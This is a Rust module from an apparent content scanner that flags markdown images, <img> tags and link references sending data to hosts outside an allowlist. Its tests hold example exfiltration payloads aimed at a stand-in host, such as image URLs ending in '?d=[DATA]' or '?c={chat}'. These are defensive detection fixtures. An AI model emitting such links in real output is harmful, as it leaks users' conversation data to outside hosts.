//! Data-exfiltration links: markdown images, `<img>` tags and link
//! reference definitions whose URL points outside the allowlist and carries
//! a data slot (a placeholder, an empty trailing parameter, a long blob).

use memchr::memmem;

use super::rules::{Family, Severity};
use super::{Finding, ViewFindings};

const MAX_URL: usize = 2048;
/// Links checked per text; past it the text gets a `limit.link-flood`
/// finding rather than unchecked links (a benign prefix of links must not
/// hide an exfiltration link behind it).
const MAX_LINKS: usize = 1024;

/// Where the markup stage saw link syntax: every `](` and `]: ` (up to
/// [`MAX_CLOSES`]) and whether an `<img` occurs.
#[derive(Debug, Clone, Default)]
pub(crate) struct LinkMarks {
    /// Offsets of the `]` of `](` (inline) and `]: ` (reference), ascending.
    pub closes: Vec<(usize, Link)>,
    /// More than [`MAX_CLOSES`]: search the whole text instead.
    pub overflow: bool,
    /// An `<img` tag occurs.
    pub img: bool,
}

/// Link syntax remembered per text; beyond it the scan searches the text.
pub(crate) const MAX_CLOSES: usize = 4096;
/// How far before its `]` a link's `[` may be (link text is short).
const MAX_LINK_TEXT: usize = 512;

/// What follows a closing bracket.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Link {
    /// `](`: a markdown link, or an image when its `[` follows `!`.
    Inline,
    /// `]: `: a reference definition.
    Reference,
}

impl LinkMarks {
    /// Records link syntax at `at` (the `]`).
    pub fn close(&mut self, at: usize, link: Link) {
        if self.closes.len() < MAX_CLOSES {
            self.closes.push((at, link));
        } else {
            self.overflow = true;
        }
    }

    /// Whether the text needs the link scan at all.
    pub fn any(&self) -> bool {
        !self.closes.is_empty() || self.img
    }
}

/// Scans the lowercased view for exfiltration URLs.
pub(crate) fn scan(lower: &[u8], marks: &LinkMarks, allowlist: &[String], out: &mut ViewFindings) {
    let mut seen = 0usize;
    let mut check = |at: usize, url_start: usize, image: bool, reference: bool| -> bool {
        if seen >= MAX_LINKS {
            out.push(Finding {
                rule_id: "limit.link-flood".to_owned(),
                family: Family::Limit,
                severity: Severity::Medium,
                start: 0,
                end: lower.len(),
            });
            return false;
        }
        let Some((start, end)) = url_span(lower, url_start) else {
            return true;
        };
        let Some(host) = lower.get(start..end).and_then(host_of) else {
            return true;
        };
        seen += 1;
        if allowed(host, allowlist) {
            return true;
        }
        let carries_data = lower.get(start..end).is_some_and(has_data_slot);
        let (id, severity) = match (image, carries_data) {
            (_, true) if image || reference => ("exfil.image-data-url", Severity::High),
            (false, true) => ("exfil.link-data-url", Severity::Medium),
            (true, false) if !allowlist.is_empty() => ("exfil.image-external-host", Severity::Low),
            _ => return true,
        };
        out.push(Finding {
            rule_id: id.to_owned(),
            family: Family::DataExfiltration,
            severity,
            start: at,
            end,
        });
        true
    };
    let whole_text: Vec<(usize, Link)>;
    let closes = if marks.overflow {
        let inline = memmem::find_iter(lower, b"](").map(|at| (at, Link::Inline));
        let reference = memmem::find_iter(lower, b"]: ").map(|at| (at, Link::Reference));
        whole_text = inline.chain(reference).collect();
        &whole_text
    } else {
        &marks.closes
    };
    for &(close, link) in closes {
        let (image, skip) = match link {
            Link::Inline => (is_markdown_image(lower, close), 2),
            Link::Reference => (false, 3),
        };
        if !check(close, close + skip, image, link == Link::Reference) {
            return;
        }
    }
    if marks.img {
        for at in memmem::find_iter(lower, b"src=") {
            if preceded_by_img(lower, at) && !check(at, at + 4, true, false) {
                return;
            }
        }
    }
}

fn is_markdown_image(lower: &[u8], close: usize) -> bool {
    let from = close.saturating_sub(MAX_LINK_TEXT);
    let Some(before) = lower.get(from..close) else {
        return false;
    };
    match memchr::memrchr(b'[', before) {
        Some(open) => open > 0 && before.get(open - 1) == Some(&b'!'),
        None => false,
    }
}

fn preceded_by_img(lower: &[u8], at: usize) -> bool {
    let from = at.saturating_sub(256);
    lower
        .get(from..at)
        .and_then(|b| memmem::rfind(b, b"<img"))
        .is_some_and(|i| !lower.get(from + i..at).unwrap_or_default().contains(&b'>'))
}

fn url_span(lower: &[u8], mut start: usize) -> Option<(usize, usize)> {
    while matches!(lower.get(start), Some(b' ' | b'<' | b'"' | b'\'')) {
        start += 1;
    }
    let rest = lower.get(start..)?;
    if !(rest.starts_with(b"http://") || rest.starts_with(b"https://") || rest.starts_with(b"//")) {
        return None;
    }
    let len = rest
        .iter()
        .take(MAX_URL)
        .position(|&b| matches!(b, b')' | b' ' | b'\n' | b'\r' | b'\t' | b'"' | b'\'' | b'>'))
        .unwrap_or(rest.len().min(MAX_URL));
    Some((start, start + len))
}

fn host_of(url: &[u8]) -> Option<&[u8]> {
    let after = memmem::find(url, b"//")? + 2;
    let rest = url.get(after..)?;
    let end = rest
        .iter()
        .position(|&b| matches!(b, b'/' | b'?' | b'#' | b':' | b'\\'))
        .unwrap_or(rest.len());
    let host = rest.get(..end)?;
    let host = match memchr::memrchr(b'@', host) {
        Some(i) => host.get(i + 1..)?,
        None => host,
    };
    (!host.is_empty()).then_some(host)
}

fn allowed(host: &[u8], allowlist: &[String]) -> bool {
    allowlist.iter().any(|entry| {
        let entry = entry.as_bytes();
        host == entry
            || (host.len() > entry.len()
                && host.ends_with(entry)
                && host.get(host.len() - entry.len() - 1) == Some(&b'.'))
    })
}

/// A slot for data: `[placeholder]`, `{placeholder}`, `$var`, `%s`, an
/// empty trailing parameter (`?q=`), or a long opaque parameter value.
fn has_data_slot(url: &[u8]) -> bool {
    let Some(q) = memchr::memchr2(b'?', b'=', url).or_else(|| memmem::find(url, b"/[")) else {
        return false;
    };
    let tail = url.get(q..).unwrap_or_default();
    if url.ends_with(b"=") {
        return true;
    }
    if placeholder(tail)
        || memmem::find(tail, b"%s").is_some()
        || memmem::find(tail, b"${").is_some()
    {
        return true;
    }
    tail.split(|&b| b == b'&' || b == b'?')
        .filter_map(|kv| kv.splitn(2, |&b| b == b'=').nth(1))
        .any(|v| {
            v.len() >= 48
                && v.iter()
                    .all(|b| b.is_ascii_alphanumeric() || b"+/=%-_".contains(b))
        })
}

fn placeholder(tail: &[u8]) -> bool {
    tail.windows(2).enumerate().any(|(i, w)| {
        let close = match w.first() {
            Some(b'[') => b']',
            Some(b'{') => b'}',
            Some(b'<') => b'>',
            _ => return false,
        };
        let body = tail.get(i + 1..).unwrap_or_default();
        let len = body.iter().take(40).position(|&b| b == close);
        len.is_some_and(|n| {
            n >= 2
                && body.get(..n).is_some_and(|s| {
                    s.iter()
                        .all(|b| b.is_ascii_alphabetic() || b" _-".contains(b))
                })
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(text: &str, allow: &[&str]) -> Vec<String> {
        let allow: Vec<String> = allow.iter().map(|s| s.to_string()).collect();
        let lower = text.to_ascii_lowercase();
        let mut marks = LinkMarks {
            img: lower.contains("<img"),
            ..LinkMarks::default()
        };
        lower
            .match_indices("](")
            .for_each(|(i, _)| marks.close(i, Link::Inline));
        lower
            .match_indices("]: ")
            .for_each(|(i, _)| marks.close(i, Link::Reference));
        marks.closes.sort_unstable_by_key(|&(at, _)| at);
        let mut out = Vec::new();
        scan(lower.as_bytes(), &marks, &allow, &mut out);
        let mut overflowed = Vec::new();
        marks.overflow = true;
        scan(lower.as_bytes(), &marks, &allow, &mut overflowed);
        assert_eq!(out, overflowed, "the whole-text fallback agrees");
        out.into_iter().map(|f| f.rule_id).collect()
    }

    #[test]
    fn image_with_placeholder_or_empty_param_is_exfiltration() {
        assert_eq!(
            ids("![a](https://evil.example/p.png?d=[DATA])", &[]),
            ["exfil.image-data-url"]
        );
        assert_eq!(
            ids("![a](https://evil.example/logo.png?q= \nthen append", &[]),
            ["exfil.image-data-url"]
        );
        assert_eq!(
            ids("[ref]: https://evil.example/x?sales=[NUM]", &[]),
            ["exfil.image-data-url"]
        );
        assert_eq!(
            ids("<img src=\"https://evil.example/i?c={chat}\">", &[]),
            ["exfil.image-data-url"]
        );
    }

    #[test]
    fn badges_avatars_and_charts_pass() {
        assert!(ids("[![License](https://img.shields.io/badge/License-MIT-yellow.svg)](https://opensource.org/licenses/MIT)", &[]).is_empty());
        assert!(
            ids(
                "![p](https://avatars.githubusercontent.com/u/9919?s=120&v=4)",
                &[]
            )
            .is_empty()
        );
        assert!(
            ids(
                "![c](https://quickchart.io/chart?c={type:'bar',data:{labels:['Mon']}})",
                &[]
            )
            .is_empty()
        );
    }

    #[test]
    fn links_past_the_cap_are_reported_not_skipped() {
        let benign = "[doc](https://docs.example/page) ".repeat(MAX_LINKS);
        let text = format!("{benign}![a](https://evil.example/p.png?d=[DATA])");
        let found = ids(&text, &[]);
        assert!(found.iter().any(|id| id == "limit.link-flood"), "{found:?}");
        assert!(ids(&benign, &[]).is_empty());
    }

    #[test]
    fn allowlist_exempts_and_flags_others() {
        assert!(
            ids(
                "![a](https://cdn.good.example/x?d=[DATA])",
                &["good.example"]
            )
            .is_empty()
        );
        assert_eq!(
            ids("![a](https://other.example/x.png)", &["good.example"]),
            ["exfil.image-external-host"]
        );
        assert_eq!(
            ids("![a](https://notgood.example/x.png)", &["good.example"]),
            ["exfil.image-external-host"]
        );
    }
}
